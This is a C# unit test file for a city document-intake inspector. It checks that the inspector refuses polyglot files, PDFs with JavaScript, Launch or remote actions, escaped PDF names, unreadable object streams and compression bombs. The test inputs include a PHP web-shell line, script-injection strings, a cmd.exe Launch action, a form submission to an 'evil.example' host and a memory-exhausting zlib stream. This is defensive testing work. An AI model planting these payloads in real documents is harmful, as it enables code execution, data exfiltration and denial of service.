using System.IO.Compression;
using System.Text;
using Municipal.DocumentIntake.Inspection;
using Municipal.ServiceDefaults.Media;

namespace Municipal.DocumentIntake.Tests;

public class ContentInspectorTests
{
    private static (FileKind? Kind, string? Problem) Inspect(byte[] content, int chunk = 81920)
    {
        var inspector = new ContentInspector();
        for (var i = 0; i < content.Length; i += chunk) inspector.Append(content.AsSpan(i, Math.Min(chunk, content.Length - i)));
        return inspector.Decide();
    }

    [Fact]
    public void Recognises_each_accepted_type_by_content()
    {
        Assert.Equal((FileKind.Jpeg, null), Inspect(Files.Page1));
        Assert.Equal((FileKind.Png, null), Inspect(Files.Png));
        Assert.Equal((FileKind.Pdf, null), Inspect(Files.Pdf()));
        var tiff = new byte[64];
        "II*\0"u8.CopyTo(tiff);
        tiff[4] = 8;
        Assert.Equal((FileKind.Tiff, null), Inspect(tiff));
    }

    [Fact]
    public void Refuses_unknown_and_damaged_content()
    {
        Assert.Equal("unsupported", Inspect(Encoding.ASCII.GetBytes("just some text")).Problem);
        Assert.Equal("unsupported", Inspect(Files.Eicar).Problem);
        Assert.Equal("damaged", Inspect(Files.Page1[..^100]).Problem);
        Assert.Equal("damaged", Inspect(Files.Png[..^12]).Problem);
        Assert.Equal("damaged", Inspect(Encoding.ASCII.GetBytes("%PDF-1.7\nno trailer here")).Problem);
        var tiff = new byte[16];
        "MM\0*"u8.CopyTo(tiff);
        tiff[7] = 200; // first directory beyond the end of the file
        Assert.Equal("damaged", Inspect(tiff).Problem);
    }

    [Theory]
    [InlineData("%PDF-1.4 hidden document")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<HTML><body>")]
    [InlineData("<svg onload=x>")]
    [InlineData("<?php system($_GET['c']); ?>")]
    public void Refuses_an_image_carrying_another_format(string payload)
    {
        // The payload sits inside a comment segment, so the JPEG is still valid to an image viewer.
        var comment = Encoding.ASCII.GetBytes(payload);
        var segment = Files.Concat([0xFF, 0xFE, (byte)((comment.Length + 2) >> 8), (byte)(comment.Length + 2)], comment);
        var polyglot = Files.Concat(Files.Page1[..2], segment, Files.Page1[2..]);
        Assert.Equal((FileKind.Jpeg, "polyglot"), Inspect(polyglot));
    }

    [Fact]
    public void Refuses_a_zip_appended_to_a_png_and_a_pdf_with_javascript()
    {
        byte[] zipHeader = [0x50, 0x4B, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00];
        // The ZIP sits before IEND so the trailer check alone would pass it.
        var png = Files.Png;
        var withZip = Files.Concat(png[..^12], zipHeader, png[^12..]);
        Assert.Equal((FileKind.Png, "polyglot"), Inspect(withZip));
        Assert.Equal("polyglot", Inspect(Files.Pdf("<< /S /JavaScript /JS (app.alert(1)) >>")).Problem);
    }

    /// <summary>
    /// A PDF name may write its characters as #xx: "/J#61vaScript" is "/JavaScript" to a reader and got past the plain
    /// search (API probe). Escaped active names are found in any chunking; an escaped harmless name is not refused.
    /// </summary>
    [Theory]
    [InlineData("<< /S /J#61vaScript /JS (app.alert(1)) >>", "polyglot")]
    [InlineData("<< /S /#4A#61#76#61#53#63#72#69#70#74 >>", "polyglot")]
    [InlineData("<< /Type /Action /S /L#61unch /F (cmd.exe) >>", "polyglot")]
    [InlineData("<< /Type /Emb#65ddedFile >>", "polyglot")]
    [InlineData("<< /Font /Helv#65tica /Name /A#20B >>", null)]
    [InlineData("<< /Title (C# und #JavaScript-Kurs) >>", null)]
    public void Finds_active_names_written_with_escapes(string dictionary, string? problem)
    {
        var pdf = Files.Pdf(dictionary);
        foreach (var chunk in new[] { 1, 5, 13, 48, 4096 })
        {
            Assert.Equal(problem, Inspect(pdf, chunk).Problem);
        }
    }

    [Fact]
    public void Finds_a_signature_split_across_chunks()
    {
        var png = Files.Png;
        var polyglot = Files.Concat(png[..^12], Encoding.ASCII.GetBytes("%PDF-1.7"), png[^12..]);
        foreach (var chunk in new[] { 1, 3, 7, 16, 17, 4096 })
        {
            Assert.Equal("polyglot", Inspect(polyglot, chunk).Problem);
        }
        Assert.Null(Inspect(png, 1).Problem);
    }

    [Fact]
    public void Checks_names_and_declared_types_against_the_content()
    {
        Assert.True(FileKind.Pdf.AgreesWithName("antrag.PDF"));
        Assert.True(FileKind.Jpeg.AgreesWithName("scan"));
        Assert.False(FileKind.Png.AgreesWithName("scan.pdf"));
        Assert.False(FileKind.Png.AgreesWithName("photo.exe"));
        Assert.True(FileKind.Jpeg.AgreesWithDeclared("image/pjpeg"));
        Assert.True(FileKind.Jpeg.AgreesWithDeclared("application/octet-stream"));
        Assert.False(FileKind.Jpeg.AgreesWithDeclared("application/pdf"));
    }

    /// <summary>
    /// Since PDF 1.5 objects may sit in a compressed object stream: an OpenAction's JavaScript there passed the search
    /// of the raw bytes and was stored as clean (outside probe, js_objstm.pdf). Found now in any chunking, escaped too.
    /// </summary>
    [Theory]
    [InlineData("<< /S /JavaScript /JS (app.alert(1)) >>", "polyglot")]
    [InlineData("<< /S /J#61v#61Script /JS (app.alert(1)) >>", "polyglot")]
    [InlineData("<< /S /Launch /F (cmd.exe) >>", "polyglot")]
    [InlineData("<< /Type /EmbeddedFile >>", "polyglot")]
    [InlineData("<< /S /GoToR /F (\\\\evil\\share\\x.pdf) >>", "polyglot")]
    [InlineData("<< /S /URI /URI (https://www.stadt.example/) >>", null)]
    [InlineData("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", null)]
    public void Looks_into_compressed_object_streams(string objectFour, string? problem)
    {
        var pdf = ObjectStreamPdf(objectFour);
        foreach (var chunk in new[] { 1, 7, 64, 4096 })
        {
            Assert.Equal(problem, Inspect(pdf, chunk).Problem);
        }
        Assert.Equal("polyglot", Inspect(Files.Asset("probe-js-objstm.pdf")).Problem);
    }

    /// <summary>
    /// An object stream this cannot read is not let through unread: a text filter, a predictor scrambling its bytes, or
    /// more than the bounds (a few KB of zlib inflating to gigabytes must not fill the memory).
    /// </summary>
    [Fact]
    public void Refuses_an_object_stream_it_cannot_read()
    {
        var hex = Encoding.ASCII.GetBytes(Convert.ToHexString(Encoding.ASCII.GetBytes("4 0 << /S /JavaScript >>")) + ">");
        Assert.Equal("not-inspectable", Inspect(ObjectStreamPdf(hex, "/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode")).Problem);
        Assert.Equal("not-inspectable", Inspect(ObjectStreamPdf(hex, "/Type /ObjStm /N 1 /First 4 /Filter /AS#43IIHexDecode")).Problem);
        Assert.Equal("not-inspectable", Inspect(ObjectStreamPdf(Zlib("4 0 << >>"), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>")).Problem);

        var bomb = ObjectStreamPdf("<< /Padding (" + new string(' ', PdfStreams.MaxInflatedPerStream) + ") >>");
        Assert.True(bomb.Length < 20_000, $"{bomb.Length} bytes");
        var before = GC.GetAllocatedBytesForCurrentThread();
        Assert.Equal("not-inspectable", Inspect(bomb).Problem);
        Assert.True(GC.GetAllocatedBytesForCurrentThread() - before < 4_000_000, "inflated into memory");
    }

    /// <summary>Compressed page content, fonts and images are not object streams: large ones are fine, and are not searched.</summary>
    [Fact]
    public void Passes_compressed_page_content_and_the_pdfs_the_city_makes()
    {
        var content = Zlib("1 0 0 -1 0 842 cm\n" + string.Concat(Enumerable.Repeat("0 0 m 100 100 l S\n", 600_000)));
        var page = Files.Concat(Encoding.ASCII.GetBytes("%PDF-1.4\n5 0 obj\n<< /Filter /FlateDecode /Length " + content.Length + " >>\nstream\n"), content,
            Encoding.ASCII.GetBytes("\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"));
        Assert.Equal((FileKind.Pdf, null), Inspect(page));
        // Printed by Chromium as the forms service prints a signed form (a link, an image, a drawing, tagged structure).
        Assert.Equal((FileKind.Pdf, null), Inspect(Files.Asset("chromium-print.pdf")));
        Assert.Equal((FileKind.Pdf, null), Inspect(Files.Asset("probe-uri.pdf")));
    }

    /// <summary>
    /// The forms service's printed dossier (Chromium: a dozen small compressed streams in 45 KB) came in one 80 KB chunk,
    /// whose streams were all opened before any was fed: more than eight open at once, refused as not inspectable, and
    /// no dossier's PDF reached a department's inbox (staff walk, 2026-12-06). Whatever the chunk, it passes.
    /// </summary>
    [Theory]
    [InlineData(81920)]
    [InlineData(1_000_000)]
    [InlineData(4096)]
    [InlineData(7)]
    public void Passes_a_pdf_of_many_small_streams_whatever_the_chunk(int chunk)
    {
        var parts = new List<byte[]> { Encoding.ASCII.GetBytes("%PDF-1.4\n") };
        for (var n = 1; n <= 30; n++)
        {
            var content = Zlib($"q 1 0 0 -1 0 842 cm BT /F1 12 Tf 72 {n * 20} Td (Zeile {n}) Tj ET Q\n");
            parts.Add(Encoding.ASCII.GetBytes($"{n} 0 obj\n<< /Filter /FlateDecode /Length {content.Length} >>\nstream\n"));
            parts.Add(content);
            parts.Add(Encoding.ASCII.GetBytes("\nendstream\nendobj\n"));
        }
        parts.Add(Encoding.ASCII.GetBytes("trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"));
        Assert.Equal((FileKind.Pdf, null), Inspect(Files.Concat(parts.ToArray()), chunk));
        // Active content in the last of them is still found.
        var script = Zlib("3 0 << /S /JavaScript /JS (app.alert(1)) >>");
        var withScript = Files.Concat([.. parts.Take(parts.Count - 1), ObjectStreamPdf(script, "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")[9..]]);
        Assert.Equal("polyglot", Inspect(withScript, chunk).Problem);
    }

    [Theory]
    [InlineData("probe-launch-gotor.pdf")]
    [InlineData("probe-submitform.pdf")]
    [InlineData("probe-richmedia.pdf")]
    public void Refuses_actions_that_reach_out_of_the_pdf(string asset) => Assert.Equal("polyglot", Inspect(Files.Asset(asset)).Problem);

    [Theory]
    [InlineData("<< /S /GoToE /T << /R /C /N (a) >> >>")]
    [InlineData("<< /S /ImportData /F (data.fdf) >>")]
    [InlineData("<< /S /Subm#69tForm /F (http://evil.example/x) >>")]
    [InlineData("<< /Subtype /RichMedia >>")]
    public void Refuses_other_actions_plain_or_escaped(string dictionary) => Assert.Equal("polyglot", Inspect(Files.Pdf(dictionary)).Problem);

    /// <summary>An encrypted PDF's streams are unreadable to this and to clamd: the resident is asked for it without a password.</summary>
    [Fact]
    public void Refuses_an_encrypted_pdf()
    {
        Assert.Equal((FileKind.Pdf, "encrypted"), Inspect(Files.Asset("probe-encrypted.pdf")));
        Assert.Equal("encrypted", Inspect(Files.Pdf("<< /Size 5 /Root 1 0 R /Encr#79pt 4 0 R >>"), 3).Problem);
        Assert.Null(Inspect(Files.Pdf("<< /Title (Encrypt) >>")).Problem);
    }

    [Theory]
    [InlineData("4 0 << /S /JavaScript >>", true)]
    [InlineData("4 0 5 12 true << >>", true)]
    [InlineData("% made by hand\n4 0 /Name", true)]
    [InlineData("1 0 0 -1 0 842 cm /Im0 Do", false)]
    [InlineData("0 0 595.28 841.89 re W n", false)]
    [InlineData("BT /F1 12 Tf (Hallo) Tj ET", false)]
    [InlineData("q 1.5 0 0 1 0 0 cm", false)]
    public void Tells_an_object_stream_by_how_it_begins(string inflated, bool objectStream) =>
        Assert.Equal(objectStream, PdfFlateStream.LooksLikeObjectStream(Encoding.ASCII.GetBytes(inflated), complete: true));

    [Fact]
    public void Reads_the_pixels_an_image_header_states()
    {
        long? Pixels(byte[] image, FileKind kind) => ImageSize.LargestPixels(new MemoryStream(image), kind);
        Assert.Equal(620L * 877, Pixels(Files.Page1, FileKind.Jpeg));
        Assert.Equal(65500L * 65500, Pixels(Files.Asset("probe-hugedim.jpg"), FileKind.Jpeg));
        Assert.Equal(100000L * 100000, Pixels(Files.Asset("probe-huge.png"), FileKind.Png));
        Assert.Equal(20000L * 30000, Pixels(Images.Png(20000, 30000), FileKind.Png));
        Assert.Equal(20000L * 20000, Pixels(Images.Tiff((800, 600), (20000, 20000), (10, 10)), FileKind.Tiff));
        Assert.Equal(800L * 600, Pixels(Images.Tiff((800, 600)), FileKind.Tiff));
        Assert.Null(Pixels(Files.Png[..20], FileKind.Png));
        Assert.Null(Pixels(Images.Png(0, 600), FileKind.Png));
        // A directory that names itself as the next: read once, not forever.
        var loop = Images.Tiff((800, 600));
        loop[^4] = 8;
        Assert.Equal(800L * 600, Pixels(loop, FileKind.Tiff));
    }

    /// <summary>Only Huffman-coded frames (SOF0–SOF2) go into a PDF as DCTDecode; a lossless or arithmetic one renders blank.</summary>
    [Fact]
    public void Tells_the_jpegs_a_pdf_can_carry()
    {
        Assert.True(ImageHeader.Read(Files.Page1)!.Jpeg!.HuffmanCoded);
        var lossless = ImageHeader.Read(Files.Asset("probe-lossless.jpg"))!.Jpeg!;
        Assert.Equal((0xC3, false), (lossless.Marker, lossless.HuffmanCoded));
        var arithmetic = Files.Asset("probe-lossless.jpg");
        arithmetic[159] = 0xC9;
        Assert.False(ImageHeader.Read(arithmetic)!.Jpeg!.HuffmanCoded);
    }

    private static byte[] Zlib(string text)
    {
        var output = new MemoryStream();
        using (var zlib = new ZLibStream(output, CompressionLevel.Optimal, leaveOpen: true)) zlib.Write(Encoding.ASCII.GetBytes(text));
        return output.ToArray();
    }

    /// <summary>A PDF 1.5 whose catalog opens object 4, kept compressed in object stream 3 (as the probe's js_objstm.pdf).</summary>
    private static byte[] ObjectStreamPdf(string objectFour) => ObjectStreamPdf(Zlib("4 0 " + objectFour), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode");

    private static byte[] ObjectStreamPdf(byte[] data, string dictionary) => Files.Concat(
        Encoding.ASCII.GetBytes($"%PDF-1.5\n1 0 obj\n<< /Type /Catalog /OpenAction 4 0 R >>\nendobj\n3 0 obj\n<< {dictionary} /Length {data.Length} >>\nstream\n"),
        data,
        Encoding.ASCII.GetBytes("\nendstream\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"));
}
